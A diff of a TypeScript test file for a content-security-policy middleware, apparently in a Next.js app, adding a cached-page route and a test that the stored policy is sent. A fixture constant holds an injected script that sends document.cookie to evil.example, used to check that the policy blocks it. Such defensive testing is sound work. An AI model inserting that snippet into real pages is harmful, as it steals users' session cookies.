@@ -14,6 +14,7 @@ const FLIGHT = 'self.__next_f.push([1,"0:[\\"$\\",\\"p\\",null,{\\"children\\":\
 const BOOTSTRAP = '(self.__next_f=self.__next_f||[]).push([0])';
 const INJECTED = 'fetch("https://evil.example/?" + document.cookie)';
 const STATIC_POLICY = contentSecurityPolicy({ dev: false, stripe: false });
+const STORED_POLICY = contentSecurityPolicy({ dev: false, stripe: false, scriptHashes: ["'sha256-stored'"] });
 const PAGE_HEAD = `<!DOCTYPE html><html lang="en"><head><script>${BOOTSTRAP}</script></head><body>`;
 const PAGE_TAIL = `<p>${'Tartan apron, £24.00. '.repeat(200)}</p><script>${FLIGHT}</script><script>${INJECTED}</script></body></html>`;
 
@@ -34,6 +35,14 @@ function answer(request: http.IncomingMessage, response: http.ServerResponse): v
     case '/written-head':
       response.writeHead(404, { 'Content-Type': 'text/html' });
       response.end(`<html><body><script>${BOOTSTRAP}</script>Not found</body></html>`);
+      return;
+    case '/cached':
+      // Next adds a cached page's stored headers after the static ones, then streams its bytes.
+      response.setHeader('Content-Type', 'text/html; charset=utf-8');
+      response.appendHeader(CONTENT_SECURITY_POLICY, STORED_POLICY);
+      response.flushHeaders();
+      response.write(PAGE_HEAD);
+      setTimeout(() => response.end(PAGE_TAIL), 20);
       return;
     case '/not-modified':
       response.statusCode = 304;
@@ -96,6 +105,12 @@ describe('the page script policy', () => {
     expect(reply.headers['content-encoding']).toBe('gzip');
     expect(gunzipSync(reply.body).toString('utf8')).toBe(PAGE_HEAD + PAGE_TAIL);
     expect(scriptSources(reply.headers['content-security-policy'])).toBe(`script-src 'self' ${scriptHash(BOOTSTRAP)} ${scriptHash(FLIGHT)}`);
+  });
+
+  it('sends a cached page with the policy stored with it, and only that one', async () => {
+    const reply = await get('/cached');
+    expect(reply.body.toString('utf8')).toBe(PAGE_HEAD + PAGE_TAIL);
+    expect(reply.headers['content-security-policy']).toBe(STORED_POLICY);
   });
 
   it('reads headers given to writeHead', async () => {
